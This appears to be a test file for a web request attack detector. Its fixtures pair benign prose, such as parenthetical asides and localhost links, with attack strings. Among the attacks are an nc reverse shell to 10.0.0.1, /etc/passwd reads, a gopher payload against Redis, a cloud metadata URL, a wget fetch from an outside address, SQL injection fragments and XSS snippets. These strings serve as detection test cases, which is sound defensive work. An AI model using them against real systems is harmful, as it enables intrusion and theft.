import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { sqliDetector } from "../src/detectors/sqli/index.js";
import { ssrfDetector } from "../src/detectors/ssrf/index.js";
import { traversalDetector } from "../src/detectors/traversal/index.js";
import { xssDetector } from "../src/detectors/xss/index.js";
import { describeRules, scoreOf } from "./helpers.js";

// What people write in comments and support messages: a program named in an aside, a local URL in a sentence.
// Each rule keeps the attacks that look closest.
describeRules("cmdi: a parenthetical aside naming programs", (value) => scoreOf(cmdiDetector, value, "body", "comment"), {
  "an aside that closes on plain words": {
    attacks: ["hello (whoami)", "x (nc -e /bin/sh 10.0.0.1 4444)", "a;(cat /etc/passwd)", "name $(id -u)"],
    benign: [
      "On Windows (cmd.exe and PowerShell), it is needed to run chcp 65001 in the terminal.",
      "Works in every shell (bash or zsh or fish) we tried",
      "Pull the report (curl the latest numbers) and send it",
      "Set the code page in a terminal (cmd.exe and\npowershell), it is needed for utf-8",
    ],
  },
});

describeRules("ssrf: a local URL inside a sentence", (value) => scoreOf(ssrfDetector, value, "body", "message"), {
  "a sentence with a loopback or private link": {
    attacks: [
      "http://127.0.0.1:6379/",
      "gopher://127.0.0.1:6379/_flushall set key value config",
      "see http://169.254.169.254/latest/meta-data/ for the keys",
      "http://localhost/admin then more words here",
    ],
    benign: ["Open http://localhost:3000 in your browser.", "The dev server runs on http://127.0.0.1:8080 by default, try it"],
  },
});

describeRules("sqli: sentences that share SQL's words", (value) => scoreOf(sqliDetector, value, "body", "comment"), {
  "WHERE … IS / LIKE in a sentence": {
    attacks: ["where id is null", "1 where id is null--", "1) where 1 like 1", "x' where name like 'a%'--"],
    benign: ["Where res is the response as serialized by the serializer.", "Places where people like to go on holiday"],
  },
  "a quoted symbol in a sentence": {
    attacks: ["'='", "1'-'", "a'+'"],
    benign: ['Use the dash ("-") as parameters separator.', 'He said "-" and left', 'Redirect to trailing "/" when the pathname is a dir.'],
  },
});

describeRules("xss: Markdown code spans in prose", (value) => scoreOf(xssDetector, value, "body", "comment"), {
  "a span naming a function": {
    attacks: ["hello world `alert(1)` bye", "`;alert(1)//", "a`;alert(1)//`", "x`-alert(1)-`"],
    benign: [
      "Exactly like your beloved `setTimeout`. Returns a `Retimer object`",
      "It supports the scripting commands such as `EVAL`, `EVALSHA` and `SCRIPT`. However, it is tedious to use.",
    ],
  },
});

describe("traversal: an ellipsis ends a sentence", () => {
  const score = (value: string) => scoreOf(traversalDetector, value, "query", "q");
  it("does not read trailing dots as a climb, even at high sensitivity", () => {
    for (const value of ["I'm leaving my house now...", "see you soon..", "Sindu got job in birla soft .."]) {
      assert.ok(score(value) < 0.5, `${value}: ${score(value)}`);
    }
  });
  it("still reads a climb that names no file", () => {
    for (const value of ["..", "../", "foo/..", "/img../etc/passwd"]) assert.ok(score(value) >= 0.5, `${value}: ${score(value)}`);
  });
});

// Unicode CLDR's currency names (`peso argentino (ARP)`) and any glossary spell out an acronym in parentheses.
describeRules("cmdi: an acronym in parentheses after a name", (value) => scoreOf(cmdiDetector, value, "body", "name"), {
  "(ARP), (SSH) after words": {
    attacks: ["hello (whoami)", "x; (ARP)", "x;(id)", "a (WGET http://203.0.113.9/a)"],
    benign: [
      "peso argentino (ARP)",
      "അർജൻറീൻ പെയ്സോ (ARP)",
      "Address Resolution Protocol (ARP)",
      "Secure Shell (SSH) keys",
      "Domain Name System (DNS) and Network File System (NFS)",
    ],
  },
});
